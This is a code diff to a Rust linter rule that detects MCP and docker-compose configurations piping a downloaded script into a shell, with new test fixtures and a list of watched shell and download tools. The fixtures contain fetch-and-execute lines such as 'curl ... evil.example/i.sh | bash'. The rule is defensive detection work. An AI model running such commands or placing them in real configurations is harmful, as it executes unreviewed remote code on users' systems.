@@ -39,8 +39,16 @@ pub(crate) static RULE: Rule = Rule {
             ".mcp.json",
             r#"{"mcpServers": {"x": {"command": "sh", "args": ["-c", «"eval \"$(curl -fsSL https://get.example.com/i.sh)\""]}}}"#,
         ),
+        fx(
+            "docker-compose.yml",
+            "services:\n  h:\n    image: alpine:3.20\n    command: [\"/bin/sh\", \"-c\", «\"curl -fsSL https://evil.example/i.sh | bash\"]\n  e:\n    image: alpine:3.20\n    entrypoint: [\"sh\", \"-c\"]\n    command: [«\"wget -qO- https://get.example.com/i.sh | sh\"]\n",
+        ),
     ],
     counterexamples: &[
+        fx(
+            "docker-compose.yml",
+            "services:\n  h:\n    image: alpine:3.20\n    command: [\"sh\", \"-c\", \"curl -fsS https://get.example.com/health > /dev/null && exec node server.js\"]\n  n:\n    image: node:22.11.0\n    command: [\"node\", \"server.js\", \"--note\", \"see https://example.com/install | sh\"]\n",
+        ),
         fx(
             ".mcp.json",
             r#"{"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl -fsSL https://get.example.com/health > /dev/null && exec node build/index.js"]},
@@ -66,46 +74,7 @@ static PIPED: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
 
 fn check(cx: &Cx<'_>, out: &mut Emit<'_>) {
     for s in cx.servers {
-        // Only what is run: the program and the arguments a wrapper hands to a shell. An
-        // argument of another program (`node server.js --note "… | sh"`) is data.
-        let Some(prog) = s.program() else { continue };
-        let shells = [
-            "sh",
-            "bash",
-            "zsh",
-            "dash",
-            "ksh",
-            "ash",
-            "fish",
-            "curl",
-            "wget",
-            "pwsh",
-            "powershell",
-            "iwr",
-            "irm",
-            "fetch",
-            // `eval "$(curl …)"`, `source <(curl …)`, `. <(curl …)`.
-            "eval",
-            "source",
-            ".",
-        ];
-        if !shells.contains(&prog.as_str()) {
-            continue;
-        }
-        let line: Vec<&str> = s.argv.iter().map(|(a, _)| a.as_str()).collect();
-        let text = line.join(" ");
-        let Some(m) = PIPED.find(&text) else { continue };
-        // The node of the word the match starts in (every word of a split script points at
-        // the script's string).
-        let mut at = 0;
-        let mut node = s.argv[0].1;
-        for (word, n) in &s.argv {
-            if at + word.len() >= m.start() {
-                node = n;
-                break;
-            }
-            at += word.len() + 1;
-        }
+        let Some(node) = piped(&s.argv) else { continue };
         out.at(
             node.span,
             s.launch_key.join("args"),
@@ -115,4 +84,72 @@ fn check(cx: &Cx<'_>, out: &mut Emit<'_>) {
             ),
         );
     }
+    // A compose service runs its `entrypoint` followed by its `command` (black-box tester,
+    // session 12 round 7: F5).
+    if cx.doc.kind == crate::input::Kind::Compose {
+        for (name, svc, key) in super::common::services(&cx.doc.root) {
+            let mut argv = Vec::new();
+            for field in ["entrypoint", "command"] {
+                let Some(n) = svc.get(field) else { continue };
+                match n.as_str() {
+                    Some(text) => {
+                        argv.extend(crate::model::shell_words(text).into_iter().map(|w| (w, n)))
+                    }
+                    None => argv.extend(super::common::compose_items(n)),
+                }
+            }
+            let argv = crate::model::unwrap_launcher(argv);
+            let Some(node) = piped(&argv) else { continue };
+            out.at(
+                node.span,
+                key.join("command"),
+                format!(
+                    "service `{name}` pipes a download into an interpreter: each start runs whatever the URL serves"
+                ),
+            );
+        }
+    }
+}
+
+/// The node of the word where a command line (already unwrapped) pipes a download into an
+/// interpreter. Only what is run counts: the program and the arguments a wrapper hands to a
+/// shell; an argument of another program (`node server.js --note "… | sh"`) is data.
+fn piped<'a>(argv: &[(String, &'a crate::node::Node)]) -> Option<&'a crate::node::Node> {
+    let prog = crate::model::program_name(&argv.first()?.0);
+    let shells = [
+        "sh",
+        "bash",
+        "zsh",
+        "dash",
+        "ksh",
+        "ash",
+        "fish",
+        "curl",
+        "wget",
+        "pwsh",
+        "powershell",
+        "iwr",
+        "irm",
+        "fetch",
+        // `eval "$(curl …)"`, `source <(curl …)`, `. <(curl …)`.
+        "eval",
+        "source",
+        ".",
+    ];
+    if !shells.contains(&prog.as_str()) {
+        return None;
+    }
+    let line: Vec<&str> = argv.iter().map(|(a, _)| a.as_str()).collect();
+    let text = line.join(" ");
+    let m = PIPED.find(&text)?;
+    // The node of the word the match starts in (every word of a split script points at the
+    // script's string).
+    let mut at = 0;
+    for (word, n) in argv {
+        if at + word.len() >= m.start() {
+            return Some(n);
+        }
+        at += word.len() + 1;
+    }
+    Some(argv[0].1)
 }
